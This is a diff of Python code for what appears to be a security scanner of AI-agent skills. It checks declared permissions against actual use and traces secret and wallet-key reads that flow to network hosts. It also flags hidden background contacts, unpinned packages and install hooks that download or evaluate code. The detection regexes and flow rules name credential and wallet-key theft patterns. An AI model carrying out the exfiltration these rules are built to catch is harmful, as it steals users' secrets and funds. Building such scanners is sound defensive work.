+    def mentions_host(self, host: str) -> bool:
+        """The instructions (or the skill's links) name this host or another host of its domain."""
+        host = host.lower().strip(".")
+        if not host:
+            return True
+        if self._domains is None:
+            self._domains = _domains_in(self.instruction_text)
+            self._domains |= {registrable(u.value) for u in self.card.of(HOST) if u.origin != FROM_CODE and u.value}
+        return registrable(host) in self._domains
+
+    def documented(self, name: str) -> bool:
+        """The instructions' prose (not only their code blocks) names this variable or word."""
+        if self._prose_words is None:
+            words: set[str] = set()
+            for file in self.instruction_files:
+                for line in file.lines:
+                    if line.context in (PROSE, INLINE):
+                        words.update(_WORD.findall(line.text[:4000].lower()))
+            self._prose_words = words
+        return name.lower() in self._prose_words
+
+    @property
+    def crypto(self) -> bool:
+        """The skill talks about wallets, chains or tokens (a PRIVATE_KEY there is a wallet's)."""
+        if self._crypto is None:
+            self._crypto = _CRYPTO.search(self.instruction_text[:2_000_000]) is not None
+        return self._crypto
+
+    def mentions_name(self, name: str) -> bool:
+        """The instructions name this word (a variable, a package), tokenised once."""
+        if self._words is None:
+            self._words = set(_WORD.findall(self.instruction_text))
+        return name.lower() in self._words
+
+    @property
+    def references(self) -> list[Reference]:
+        """Places where the instructions run or name one of the skill's scripts."""
+        if self._references is None:
+            self._references = _find_references(self) if self.scripts else []
+        return self._references
+
+
+_WALLET_WORDS = re.compile(r"WALLET|MNEMONIC|SEED|KEYPAIR|RECOVERY")
+_OTHER_KEYS = re.compile(
+    r"(?:^|_)(?:JWT|SSH|RSA|ECDSA|ED25519|TLS|SSL|GPG|PGP|APP|SIGNING|SERVICE|GOOGLE|FIREBASE|GCP|APNS|VAPID|CERT|"
+    r"DKIM|SAML|OAUTH|OIDC|GITHUB|DEPLOY|JWK|ENCRYPTION|AES|HMAC|SESSION|COOKIE|STRIPE|API)(?:_|$)"
+)
+_CRYPTO = re.compile(
+    r"\b(?:wallets?|blockchains?|crypto(?:currency|currencies)?|ethereum|solana|bitcoin|web3|ethers|viem|"
+    r"defi|dex|usdc|usdt|stablecoins?|on-?chain|evm|metamask|phantom|swaps?|lamports|wei|gwei|erc-?20|spl)\b"
+)
+_MANIFEST = re.compile(
+    r"(?:^|/)(?:package\.json|requirements[\w.-]*\.txt|pyproject\.toml|Pipfile|Gemfile|Cargo\.toml|go\.mod)$"
+)
+_PINNED_REF = re.compile(
+    r"(?:@|/(?:archive|releases/download|tarball|zipball)/)(?:v?\d[\w.-]*|[0-9a-f]{7,40})(?:\.tar\.gz|\.zip)?$"
+)
+_TOKEN = re.compile(r"[a-z0-9][a-z0-9.-]*")  # no nested quantifier: linear on any text
+_WORD = re.compile(r"[a-z0-9_][a-z0-9_-]*")
+
+
+def _domains_in(text: str) -> set[str]:
+    """The registrable domains of every host-like token of `text` (lower-cased)."""
+    out: set[str] = set()
+    for token in _TOKEN.findall(text):
+        token = token.strip(".-")
+        if "." not in token or len(token) > 253:
+            continue
+        labels = token.split(".")
+        if all(labels) and (labels[-1].isalpha() or token.replace(".", "").isdigit()):
+            out.add(registrable(token))
+    return out
+
+
+def is_wallet_key(view: SkillView, name: str, sensitive: str) -> bool:
+    """A wallet's signing key: named so (WALLET, MNEMONIC, SEED, KEYPAIR), or a bare PRIVATE_KEY in a skill
+    about wallets and chains; not a JWT, SSH, TLS or app signing key the classifier also calls private."""
+    if sensitive != "wallet key":
+        return False
+    upper = name.upper()
+    if _WALLET_WORDS.search(upper):
+        return True
+    if _OTHER_KEYS.search(upper):
+        return False
+    return view.crypto
+
+
+def is_placeholder(host: str) -> bool:
+    """RFC 2606 documentation hosts: example.com/.net/.org and the .example, .test, .invalid names."""
+    return registrable(host) in ("example.com", "example.net", "example.org") or host.endswith(
+        (".example", ".test", ".invalid")
+    )
+
+
+def is_local(host: str) -> bool:
+    """This machine or the local network (a dev server, a router page): not a remote host."""
+    return bool(_LOCAL_HOST.match(host.strip().strip(".")))
+
+
+def registrable(host: str) -> str:
+    """The last two labels (three under a two-letter second level like co.uk): what an owner registers."""
+    labels = host.split(".")
+    if len(labels) <= 2 or host.replace(".", "").isdigit() or ":" in host:
+        return host
+    if len(labels[-1]) == 2 and labels[-2] in ("co", "com", "org", "net", "ac", "gov", "edu", "ne", "or"):
+        return ".".join(labels[-3:])
+    return ".".join(labels[-2:])
+
+
+@dataclass(frozen=True)
+class Reference:
+    script: str  # shown path of the script
+    path: str  # the instruction file
+    line: int
+    background: bool
+    text: str
+
+
+_MAX_CODE_SCAN = 4 * 1024 * 1024  # characters of code lines read for assignments and function definitions
+_ASSIGNMENT = re.compile(
+    r"(?:^|[;&|(`]|\b(?:export|local|declare|readonly|typeset)(?:\s+-\w+)*)\s*([A-Za-z_]\w{0,100})=(?!=)"
+    r"|\bread\b(?:\s+-\w+)*(?:\s+-[pt]\s+\S+)?\s+([A-Za-z_]\w{0,100})"
+)
+_FUNCTION = re.compile(r"^\s*([A-Za-z_][\w-]{0,100})\s*\(\s*\)|\bfunction\s+([A-Za-z_][\w-]{0,100})")
+_HUMAN_DOCS = re.compile(r"^(?:readme|changelog|contributing|license|history|code_of_conduct)\b", re.IGNORECASE)
+_MAX_REFERENCE_LINES = 20_000  # instruction lines searched for script names
+_MAX_SCRIPTS = 200  # script names searched for
+_MAX_PACKAGES = 40  # distinct unpinned packages looked up in the skill's text
+
+
+def _find_references(view: SkillView) -> list[Reference]:
+    by_name: dict[str, list[str]] = {}
+    for path, file in list(view.scripts.items())[:_MAX_SCRIPTS]:
+        by_name.setdefault(file.name.lower(), []).append(path)
+        by_name.setdefault(file.name.rsplit("/", 1)[-1].lower(), []).append(path)
+    names = sorted(by_name, key=len, reverse=True)
+    pattern = re.compile(r"(?<![\w.-])(?:" + "|".join(re.escape(n) for n in names) + r")(?![\w-])", re.IGNORECASE)
+    background_at = {(u.path, u.line) for u in view.card.uses if u.kind == PROCESS and u.detail == "background"}
+    out: list[Reference] = []
+    seen: set[tuple[str, str, int]] = set()
+    read = 0
+    for file in view.instruction_files:
+        for line in file.lines:
+            if line.context not in (CODE, INLINE, PROSE):
+                continue
+            read += 1
+            if read > _MAX_REFERENCE_LINES:
+                return out
+            for match in pattern.finditer(line.text[:20_000]):
+                number = line.locate(match.start())[0]
+                background = bool(
+                    _BACKGROUND_WORDS.search(line.text[:2000])
+                    or (line.context == CODE and _BACKGROUND_WORDS.search(line.near[-400:]) and "&" not in line.near)
+                    or (file.path, number) in background_at
+                )
+                for script in dict.fromkeys(by_name[match.group(0).lower()]):
+                    if (script, file.path, number) not in seen:
+                        seen.add((script, file.path, number))
+                        out.append(Reference(script, file.path, number, background, line.text))
+    return out
+
+
+# -- the card rule -------------------------------------------------------------------------
+
+
+def card_rules(skill: Skill, card: CapabilityCard, files: list[TextFile]) -> list[Item]:
+    """Every rule of this module over one skill's merged card."""
+    if not card.uses:
+        return []
+    view = SkillView(skill, card, files)
+    items: list[Item] = []
+    items += declared_against_used(view)
+    items += flows_across_files(view)
+    items += helper_contacts(view)
+    items += money(view)
+    items += supply_chain(view)
+    return items
+
+
+def _item(rule: RiskRule, path: str, line: int | None, excerpt: str, /, **params: Any) -> Item:
+    finding = rule.at(path, line, None, excerpt=show(excerpt), **params)
+    return Item(finding, rule, params)
+
+
+def _where(view: SkillView, use: Use) -> str:
+    name = view.name(use.path)
+    if use.origin == FROM_CODE:
+        return f"{name} (line {use.line})" if use.line else name
+    return f"a command in {name} (line {use.line})" if use.line else f"a command in {name}"
+
+
+def _first_per_value(uses: Iterable[Use]) -> dict[str, list[Use]]:
+    grouped: dict[str, list[Use]] = {}
+    for use in sorted(uses, key=lambda u: (u.path, u.line or 0)):
+        grouped.setdefault(use.value, []).append(use)
+    return grouped
+
+
+def _more(uses: list[Use]) -> str:
+    return f" (and {len(uses) - 1} more places)" if len(uses) > 1 else ""
+
+
+def _capped(items: list[Item]) -> list[Item]:
+    return items[:PER_RULE]
+
+
+# -- 1. declared against used --------------------------------------------------------------
+
+
+def declared_against_used(view: SkillView) -> list[Item]:
+    card = view.card
+    items: list[Item] = []
+    grants = shell_grants(card.declared.allowed_tools)
+    needs = view.needs
+    programs: list[Use] = []
+    if grants.restricted or grants.unrestricted is not None or needs.bins:  # most skills declare neither
+        programs = [u for u in card.of(BINARY) if _is_program(program_name(u.value)) and view.is_command(u)]
+    if grants.restricted:
+        items += _outside_allowed_tools(view, grants, programs)
+    if grants.unrestricted is not None:
+        items += _narrower_grant(view, grants.unrestricted, programs)
+    if needs.env:
+        items += _undeclared_secrets(view, needs)
+    if needs.bins:
+        items += _unrequired_programs(view, needs, programs)
+    offline = declares_offline(view.skill, card)
+    if offline:
+        items += _offline_contacts(view, offline)
+    return items
+
+
+def _outside_allowed_tools(view: SkillView, grants: ShellGrants, programs: list[Use]) -> list[Item]:
+    strong: list[Item] = []
+    weak: list[Item] = []
+    for program, uses in _first_per_value(programs).items():
+        name = program_name(program)
+        outside = [u for u in uses if not grants.allows(name, u.evidence)]
+        if not outside:
+            continue
+        reaches = name in NETWORK_PROGRAMS
+        runs_code = name in CODE_RUNNERS
+        how = "reaches the network" if reaches else "runs code it is handed" if runs_code else ""
+        if not how:
+            # A script's own helper programs are its business; only the agent's commands must match.
+            outside = [u for u in outside if u.origin == FROM_INSTRUCTIONS]
+            if not outside:
+                continue
+        outside.sort(key=lambda u: u.origin != FROM_CODE)  # a script's use first: it is the stronger case
+        first = outside[0]
+        where = _where(view, first)
+        if first.origin == FROM_CODE:
+            where = where.replace(" (line", ", a script the agent starts, (line", 1) if first.line else where
+        what = f"{where} runs `{name}`" + (f" (it {how})" if how else "") + _more(outside)
+        # A script's networked or code-running helper escapes the grant without a prompt; the agent's own
+        # commands outside it are asked about first.
+        strongly = bool(how) and first.origin == FROM_CODE
+        rule = COMMAND_NOT_ALLOWED if strongly else PROGRAM_NOT_ALLOWED
+        item = _item(rule, first.path, first.line, first.evidence or name, what=what, granted=grants.text, program=name)
+        (strong if strongly else weak).append(item)
+    return _capped(strong) + _capped(weak)
+
+
+def _narrower_grant(view: SkillView, grant: Grant, programs: list[Use]) -> list[Item]:
+    names = sorted({program_name(u.value) for u in programs if u.origin == FROM_INSTRUCTIONS})
+    if not names or len(names) > 2 or any(name in _SHELL_WRAPPERS for name in names):
+        return []  # a shell or wrapper among them: no narrower grant exists
+    path = _skill_md(view)
+    line = view.skill.document.key_lines.get("allowed-tools")
+    tool = f"{grant.tool}({grant.spec})" if grant.spec is not None else grant.tool
+    suggested = " ".join(f"{grant.tool}({name}:*)" for name in names)
+    others = [g for g in shell_grants_text(view.card.declared.allowed_tools) if g.lower() != tool.lower()]
+    suggested = " ".join([*others, suggested]) if others else suggested
+    listed = " and ".join(f"`{n}`" for n in names)
+    return [_item(SHELL_BROADER_THAN_USE, path, line, tool, tool=tool, programs=f"{listed}", suggested=show(suggested))]
+
+
+def shell_grants_text(allowed_tools: Iterable[str]) -> list[str]:
+    """The non-shell grants as written (kept when a narrower shell grant is suggested)."""
+    out = []
+    for grant in parse_allowed_tools(allowed_tools):
+        if not grant.is_shell:
+            out.append(f"{grant.tool}({grant.spec})" if grant.spec is not None else grant.tool)
+    return out
+
+
+def _skill_md(view: SkillView) -> str:
+    shown = view.skill.location.rel_folder
+    return "SKILL.md" if shown in (".", "") else f"{shown}/SKILL.md"
+
+
+def _undeclared_secrets(view: SkillView, needs: Requirements) -> list[Item]:
+    declared = {name.upper() for name in needs.env | needs.config}
+    strong: list[Item] = []
+    weak: list[Item] = []
+    env = [u for u in view.card.of(ENV) if u.sensitive in SECRET_CLASSES and view.is_command(u)]
+    for name, uses in _first_per_value(env).items():
+        wallet = is_wallet_key(view, name, uses[0].sensitive)
+        if name.upper() in declared or view.documented(name) or (not wallet and name in view.assigned):
+            continue  # declared, asked for in the prose, or a variable the skill sets (a wallet key typed in counts)
+        first = uses[0]
+        rule = WALLET_KEY_NOT_DECLARED if wallet else SECRET_NOT_DECLARED
+        what = _where(view, first)
+        item = _item(
+            rule, first.path, first.line, first.evidence or name, what=what, name=name, declared=needs.describe("env")
+        )
+        (strong if wallet else weak).append(item)
+    return _capped(strong) + _capped(weak)
+
+
+def _undeclared(view: SkillView, name: str) -> bool:
+    """R103/R104 report this variable: env is declared, and neither it nor the prose names this one."""
+    needs = view.needs
+    return (
+        bool(needs.env)
+        and name.upper() not in {n.upper() for n in needs.env | needs.config}
+        and not view.documented(name)
+    )
+
+
+def _unrequired_programs(view: SkillView, needs: Requirements, programs: list[Use]) -> list[Item]:
+    items: list[Item] = []
+    setup = {(u.path, u.line) for u in view.card.of(INSTALL)}  # installing the tool is not running it
+    agent_facing = [
+        u
+        for u in programs
+        if not _HUMAN_DOCS.match(view.name(u.path).rsplit("/", 1)[-1]) and (u.path, u.line) not in setup
+    ]
+    for program, uses in _first_per_value(agent_facing).items():
+        name = program_name(program)
+        if name in BASE_PROGRAMS or any(same_program(name, b) for b in needs.bins) or name in view.functions:
+            continue
+        first = uses[0]
+        what = _where(view, first)
+        items.append(
+            _item(
+                BINARY_NOT_REQUIRED,
+                first.path,
+                first.line,
+                first.evidence or name,
+                what=what,
+                program=name,
+                declared=needs.describe("bins"),
+            )
+        )
+    return _capped(items)
+
+
+def _offline_contacts(view: SkillView, declaration: str) -> list[Item]:
+    hosts = [u for u in view.card.of(HOST) if u.detail in CONTACT and view.is_command(u) and not is_local(u.value)]
+    items = []
+    for host, uses in _first_per_value(hosts).items():
+        first = uses[0]
+        what = _where(view, first) + _more(uses)
+        items.append(
+            _item(NETWORK_WHILE_OFFLINE, first.path, first.line, first.evidence or host, what=what, host=host,
+                  declaration=declaration)
+        )  # fmt: skip
+    return _capped(items)
+
+
+# -- 2. flows between instructions and scripts ---------------------------------------------
+
+
+def _secret_reads(uses: Iterable[Use]) -> list[Use]:
+    return [
+        use
+        for use in uses
+        if (use.kind == ENV and use.sensitive in SECRET_CLASSES)
+        or (use.kind == PATH and use.sensitive in SECRET_PATH_CLASSES and use.detail in ("read", "list", ""))
+    ]
+
+
+def _reads_text(use: Use) -> tuple[str, str]:
+    if use.kind == ENV:
+        return f"reads ${use.value} ({use.sensitive})", f"${use.value}"
+    return f"reads {use.value} ({use.sensitive})", use.value
+
+
+def flows_across_files(view: SkillView) -> list[Item]:
+    references = view.references
+    if not references:
+        return []
+    card = view.card
+    instruction_paths = {f.path for f in view.instruction_files}
+    by_script: dict[str, list[Reference]] = {}
+    for ref in references:
+        by_script.setdefault(ref.script, []).append(ref)
+    in_instructions = [u for u in card.uses if u.path in instruction_paths and u.origin != FROM_METADATA]
+    instruction_sends = [u for u in in_instructions if u.kind == HOST and u.detail == "send" and not is_local(u.value)]
+    instruction_secrets = _secret_reads(in_instructions)
+    strong: list[Item] = []
+    weak: list[Item] = []
+    reported: set[tuple[str, int | None, str]] = set()
+    for script, refs in sorted(by_script.items()):
+        in_script = [u for u in card.uses if u.path == script and u.origin == FROM_CODE]
+        ref = refs[0]
+        link = f"{view.name(ref.path)} (line {ref.line}) runs {view.name(script)}"
+        pairs = [(s, t) for s in _secret_reads(in_script) for t in instruction_sends]
+        script_sends = [u for u in in_script if u.kind == HOST and u.detail == "send" and not is_local(u.value)]
+        pairs += [(s, t) for s in instruction_secrets for t in script_sends]
+        for secret, send in pairs:
+            key = (send.path, send.line, secret.value)
+            if key in reported:
+                continue
+            level = _flow_level(view, secret, send)
+            if level is None:
+                continue
+            reported.add(key)
+            reads, reads_short = _reads_text(secret)
+            sends = f"sends data to {send.value}" + (f" ({send.sensitive})" if send.sensitive else "")
+            params = {
+                "source": view.name(secret.path),
+                "source_line": secret.line,
+                "reads": reads,
+                "sink": view.name(send.path),
+                "sink_line": send.line,
+                "sends": sends,
+                "link": link,
+                "reads_short": reads_short,
+                "source_name": view.name(secret.path),
+                "sink_name": view.name(send.path),
+            }
+            rule = SECRET_FLOW_ACROSS_FILES if level == "high" else DATA_FLOW_ACROSS_FILES
+            item = _item(rule, send.path, send.line, send.evidence or send.value, **params)
+            (strong if level == "high" else weak).append(item)
+    return _capped(strong) + _capped(weak)
+
+
+def _flow_level(view: SkillView, secret: Use, send: Use) -> str | None:
+    """high for secret files or unaccountable hosts; medium for a secret the skill does not document;
+    None for the skill's own declared or documented token going to a named host."""
+    if secret.kind == PATH or send.sensitive in UNACCOUNTABLE_CLASSES or host_kind(send.value):
+        return "high"
+    needs = view.needs
+    documented = secret.value.upper() in {n.upper() for n in needs.env} or view.mentions_name(secret.value)
+    if documented and (send.origin != FROM_CODE or view.mentions_host(send.value)):
+        return None
+    return "medium"
+
+
+# -- 3. helper scripts that open or fetch what the instructions never name ------------------
+
+
+def helper_contacts(view: SkillView) -> list[Item]:
+    card = view.card
+    hosts = [u for u in card.of(HOST) if view.is_script(u) and u.detail in CONTACT and not is_local(u.value)]
+    if not hosts:
+        return []
+    background_scripts = {r.script: r for r in view.references if r.background}
+    detached = {u.path: u for u in card.of(PROCESS) if u.detail == "background" and view.is_script(u)}
+    high: list[Item] = []
+    opened: list[Item] = []
+    fetched: list[Item] = []
+    seen: set[tuple[str, str]] = set()
+    for use in sorted(hosts, key=lambda u: (u.path, u.line or 0)):
+        if (use.path, use.value) in seen:
+            continue
+        seen.add((use.path, use.value))
+        mentioned = view.mentions_host(use.value)
+        unaccountable = use.sensitive in UNACCOUNTABLE_CLASSES or host_kind(use.value) is not None
+        name = view.name(use.path)
+        verb = {"send": "sends data to", "fetch": "fetches from", "open": "opens"}[use.detail]
+        target = use.value + (f" ({use.sensitive or host_kind(use.value)})" if unaccountable else "")
+        why = ""
+        if not mentioned and use.path in background_scripts:
+            ref = background_scripts[use.path]
+            why = f"{view.name(ref.path)} (line {ref.line}) runs {name} in the background, and it {verb} {target}"
+        elif not mentioned and use.path in detached:
+            process = detached[use.path]
+            why = f"{name} detaches a process (line {process.line}) and {verb} {target}"
+        elif unaccountable and use.detail in ("fetch", "open"):
+            why = f"{name} {verb} {target}, a host without an accountable owner, and hands the result to the agent"
+        if why:
+            tail = "" if mentioned else ", a host no instruction file mentions"
+            what = f"{why} (line {use.line}){tail}"
+            summary = f"{name} {verb} {use.value} out of sight"
+            high.append(
+                _item(HIDDEN_CONTACT, use.path, use.line, use.evidence or use.value, what=what, host=use.value,
+                      summary=summary)
+            )  # fmt: skip
+            continue
+        if mentioned:
+            continue
+        params = {"path": name, "line": use.line, "target": target, "host": use.value}
+        if use.detail == "open":
+            opened.append(_item(UNMENTIONED_PAGE_OPENED, use.path, use.line, use.evidence or use.value, **params))
+        elif use.detail == "fetch":
+            fetched.append(_item(UNMENTIONED_FETCH, use.path, use.line, use.evidence or use.value, **params))
+    return _capped(high) + _capped(opened) + _capped(fetched)
+
+
+# -- 4. money ------------------------------------------------------------------------------
+
+
+def money(view: SkillView) -> list[Item]:
+    card = view.card
+    keys = [
+        u
+        for u in card.uses
+        if (
+            (u.kind == ENV and is_wallet_key(view, u.value, u.sensitive))
+            or (u.kind == PATH and u.sensitive == "wallet" and u.detail in ("read", "list", ""))
+        )
+        and view.is_command(u)
+    ]
+    if not keys:
+        return []
+    sends = [u for u in card.of(HOST) if u.detail == "send" and u.origin != FROM_METADATA and not is_local(u.value)]
+    contacts = [u for u in card.of(HOST) if u.detail in CONTACT and view.is_command(u) and not is_local(u.value)]
+    sends.sort(key=lambda u: is_placeholder(u.value))  # a real host first in the message, if there is one
+    contacts.sort(key=lambda u: is_placeholder(u.value))
+    items: list[Item] = []
+    for value, uses in _first_per_value(keys).items():
+        first = uses[0]
+        target = f"${value}" if first.kind == ENV else value
+        here = [s for s in sends if s.path == first.path]
+        sink = next(iter(here + sends), None) or next((c for c in contacts if c.path == first.path), None)
+        if sink is not None:
+            verb = {"send": "sends data to", "fetch": "fetches from", "open": "opens"}.get(sink.detail, "contacts")
+            what = view.name(first.path)
+            items.append(
+                _item(WALLET_KEY_WITH_NETWORK, sink.path, sink.line, sink.evidence or sink.value, what=what,
+                      target=target, source_line=first.line, sink=view.name(sink.path), sink_line=sink.line,
+                      host=sink.value, verb=verb)
+            )  # fmt: skip
+        elif not (first.kind == ENV and _undeclared(view, value)):  # R104 already says it, at high
+            what = _where(view, first)
+            items.append(_item(WALLET_KEY_READ, first.path, first.line, first.evidence or value, what=what,
+                               target=target))  # fmt: skip
+    return _capped(items)
+
+
+# -- 5. supply chain -----------------------------------------------------------------------
+
+
+def supply_chain(view: SkillView) -> list[Item]:
+    installs = [u for u in view.card.of(INSTALL) if view.is_command(u) or u.detail == "hook"]
+    if not installs:
+        return []
+    unknown_runs: list[Item] = []
+    script_installs: list[Item] = []
+    from_repo: list[Item] = []
+    from_url: list[Item] = []
+    hooks_bad: list[Item] = []
+    hooks: list[Item] = []
+    places = {(u.path, u.line) for u in installs}
+    names = _NameIndex(view, places)
+    for use in sorted(installs, key=lambda u: (u.path, u.line or 0)):
+        manager, _, package = use.value.partition(":")
+        if not package:
+            manager, package = "", manager
+        what = _where(view, use)
+        evidence = use.evidence or use.value
+        if use.detail == "unpinned":
+            if manager.lower() not in OPEN_REGISTRIES:
+                continue  # distribution and Homebrew packages come from curated repositories
+            bare = _bare_package(package)
+            if (
+                not bare
+                or bare.startswith("@types/")
+                or (view.is_manifest(use) and _ranged(evidence, bare))
+                or names.named_elsewhere(bare)
+                or _is_own_package(view.skill, bare)
+            ):
+                continue
+            action, action_short = _action(evidence)
+            params = {
+                "what": what,
+                "action": action,
+                "action_short": action_short,
+                "package": bare,
+                "example": _pin_example(manager, bare),
+            }
+            if view.is_script(use):
+                script_installs.append(_item(SCRIPT_INSTALLS_UNKNOWN, use.path, use.line, evidence, **params))
+            else:
+                unknown_runs.append(_item(UNKNOWN_PACKAGE, use.path, use.line, evidence, **params))
+        elif use.detail == "url":
+            source = _install_source(package, evidence)
+            host = _source_host(manager, source)
+            if not host:
+                continue  # a local archive or path: part of the skill, read like its other files
+            insecure = source.lower().startswith(("http://", "git://", "ftp://"))
+            params = {"what": what, "source_text": show(source), "host": host}
+            if registrable(host) in _CODE_HOSTS or host in _CODE_HOSTS:
+                if insecure:
+                    params["why_host"] = f"over an unencrypted connection from {host}"
+                    from_url.append(_item(INSTALL_FROM_URL, use.path, use.line, evidence, **params))
+                elif not _PINNED_REF.search(source.split("#", 1)[0]) and "#commit=" not in source:
+                    from_repo.append(_item(INSTALL_FROM_CODE_HOST, use.path, use.line, evidence, **params))
+            else:
+                kind = host_kind(host) or use.sensitive
+                params["why_host"] = f"from {host}" + (f", {kind}" if kind else ", not a package registry")
+                from_url.append(_item(INSTALL_FROM_URL, use.path, use.line, evidence, **params))
+        elif use.detail == "hook":
+            item = _hook_item(view, use)
+            if item is not None:
+                (hooks_bad if item.rule is HOOK_FETCHES_OR_EVALUATES else hooks).append(item)
+    return (
+        _capped(script_installs)
+        + _capped(from_url)
+        + _capped(hooks_bad)
+        + _capped(unknown_runs)
+        + _capped(from_repo)
+        + _capped(hooks)
+    )
+
+
+class _NameIndex:
+    """Whether a package name appears in the skill anywhere but its install commands."""
+
+    def __init__(self, view: SkillView, install_places: set[tuple[str, int | None]]) -> None:
+        self.view = view
+        self.places = install_places
+        self._texts: list[tuple[str, str, list[int], list[int]]] | None = None
+        self._cache: dict[str, bool] = {}
+
+    def _load(self) -> list[tuple[str, str, list[int], list[int]]]:
+        if self._texts is None:
+            self._texts = []
+            for file in self.view.files:
+                starts: list[int] = []
+                numbers: list[int] = []
+                parts: list[str] = []
+                offset = 0
+                for line in file.lines:
+                    if line.context == INLINE:
+                        continue  # the prose line holds the same text
+                    starts.append(offset)
+                    numbers.append(line.spans[0][1])
+                    parts.append(line.text[:4000])
+                    offset += len(parts[-1]) + 1
+                self._texts.append((file.path, "\n".join(parts).lower(), starts, numbers))
+        return self._texts
+
+    def named_elsewhere(self, name: str) -> bool:
+        """Cached; past `_MAX_PACKAGES` distinct names, a name counts as named (bounded cost, no finding)."""
+        if name not in self._cache:
+            self._cache[name] = len(self._cache) >= _MAX_PACKAGES or self._search(name)
+        return self._cache[name]
+
+    def _search(self, name: str) -> bool:
+        skill = self.view.skill
+        meta = " ".join(str(v) for v in (skill.name, skill.description, skill.homepage, skill.repository) if v)
+        needle = re.compile(r"(?<![\w@/.-])" + re.escape(name.lower()) + r"(?![\w-])")
+        if needle.search(meta.lower()) or needle.search(str(skill.metadata)[:20_000].lower()):
+            return True
+        lower = name.lower()
+        for path, text, starts, numbers in self._load():
+            if lower not in text:
+                continue
+            for match in needle.finditer(text):
+                index = bisect.bisect_right(starts, match.start()) - 1
+                if (path, numbers[index]) not in self.places:
+                    return True
+        return False
+
+
+def _ranged(evidence: str, name: str) -> bool:
+    """A manifest entry with a version range (`"octokit": "^4.1.2"`, `requests>=2.31`): the normal way to
+    declare a dependency, locked by the package manager; only a missing version or `*`/`latest` counts."""
+    match = re.search(re.escape(name) + r"""["']?\s*[:=]?\s*["']?\s*([\^~<>=!]{0,3})\s*v?(\d)""", evidence)
+    return match is not None
+
+
+def _bare_package(package: str) -> str:
+    """`requests[socks]>=2` -> `requests`, `@scope/pkg@1` -> `@scope/pkg`."""
+    name = package.strip().strip("'\"")
+    if name.startswith("@"):
+        scope, _, rest = name[1:].partition("/")
+        return "@" + scope + "/" + re.split(r"[@\s]", rest, maxsplit=1)[0] if rest else ""
+    name = re.split(r"[\[<>=!~;@\s]", name, maxsplit=1)[0]
+    return name if re.fullmatch(r"[A-Za-z0-9][\w.+-]{0,213}", name or "") else ""
+
+
+def _is_own_package(skill: Skill, name: str) -> bool:
+    """The package is the skill's own tool: its name holds every word of the skill's name (`demo` -> `demo-cli`)."""
+    tail = set(re.split(r"[-_.]", name.lower().rsplit("/", 1)[-1]))
+    for own in {str(v).lower() for v in (skill.name, skill.location.id.rsplit("/", 1)[-1]) if v}:
+        words = {w for w in re.split(r"[-_.\s]", own) if w}
+        if words and words <= tail:
+            return True
+    return False
+
+
+def _action(evidence: str) -> tuple[str, str]:
+    lower = evidence.lower()
+    for runner in ("npx", "bunx", "uvx", "pnpx", "pipx run", "pnpm dlx", "yarn dlx", "uv tool run"):
+        if re.search(r"\b" + re.escape(runner) + r"\b", lower):
+            return f"downloads and runs (`{runner}`)", "runs"
+    return "installs", "installs"
+
+
+def _pin_example(manager: str, name: str) -> str:
+    manager = manager.lower()
+    if manager in ("pip", "pip3", "pypi", "uv", "pipx", "uvx", "python"):
+        return f"`{name}==1.2.3`"
+    if manager in ("gem", "cargo", "go", "brew", "apt", "apt-get"):
+        return f"`{name}` with an explicit version"
+    return f"`{name}@1.2.3`"
+
+
+def _install_source(package: str, evidence: str) -> str:
+    source = package.strip()
+    if "://" not in source and not re.match(r"^[\w.-]+@[\w.-]+:", source):
+        match = re.search(r"(?:git\+)?(?:https?|git|ftp)://\S+", evidence)
+        if match:
+            source = match.group(0)
+    return source.removeprefix("git+").strip("'\"")
+
+
+def _source_host(manager: str, source: str) -> str:
+    """Where an install from a URL or repository comes from; "" for a local path or archive."""
+    host = url_host(source) or ""
+    if host:
+        return host
+    if re.match(r"^[\w.-]+@[\w.-]+:", source):  # git@github.com:org/repo
+        return source.split("@", 1)[1].split(":", 1)[0].lower()
+    shorthand = re.match(r"^(github|gitlab|bitbucket):", source)
+    if shorthand:
+        return {"github": "github.com", "gitlab": "gitlab.com", "bitbucket": "bitbucket.org"}[shorthand.group(1)]
+    if manager.lower() == "npm" and re.fullmatch(r"[\w.-]+/[\w.-]+(?:#\S*)?", source):
+        return "github.com"  # npm's user/repo shorthand
+    return ""
+
+
+def _hook_item(view: SkillView, use: Use) -> Item | None:
+    """`"postinstall": "<command>"` as the manifest reader reports it (value `npm-script:postinstall`)."""
+    key, _, command = (use.evidence or "").partition(":")
+    command = command.strip().strip(",").strip().strip("'\"")
+    named = use.value.partition(":")[2] if ":" in use.value else ""
+    hook = named or key.strip().strip("'\"") or "install"
+    if not command:
+        command = named or use.value
+    what = f"{view.name(use.path)} (line {use.line}) declares a `{hook}` hook" if use.line else f"a `{hook}` hook"
+    fetches = _HOOK_FETCH.search(command)
+    evaluates = _HOOK_EVAL.search(command)
+    script_contacts = _hook_script_contacts(view, command)
+    if fetches or evaluates or script_contacts:
+        does = (
+            f"downloads ({show(fetches.group(0))})"
+            if fetches
+            else f"evaluates code ({show(evaluates.group(0))})"
+            if evaluates
+            else f"runs {script_contacts}"
+        )
+        does_short = "downloads" if fetches else "evaluates code" if evaluates else "runs a networked script"
+        return _item(HOOK_FETCHES_OR_EVALUATES, use.path, use.line, command, what=what, command=show(command),
+                     does=does, does_short=does_short, hook=hook)  # fmt: skip
+    if _HOOK_BUILD.match(command):
+        return None
+    program = program_name(command.split()[0]) if command.split() else "a command"
+    return _item(HOOK_RUNS_CODE, use.path, use.line, command, what=what, command=show(command), hook=hook,
+                 program=program)  # fmt: skip
+
+
+def _hook_script_contacts(view: SkillView, command: str) -> str:
+    """The skill's script the hook runs, when that script contacts a host: "scripts/x.js, which fetches …"."""
+    for path, file in view.scripts.items():
+        base = file.name.rsplit("/", 1)[-1]
+        if re.search(r"(?<![\w.-])" + re.escape(base) + r"(?![\w-])", command):
+            for use in view.card.uses:
+                if use.path == path and use.kind == HOST and use.detail in CONTACT:
+                    return f"{file.name}, which contacts {use.value} (line {use.line})"
+    return ""
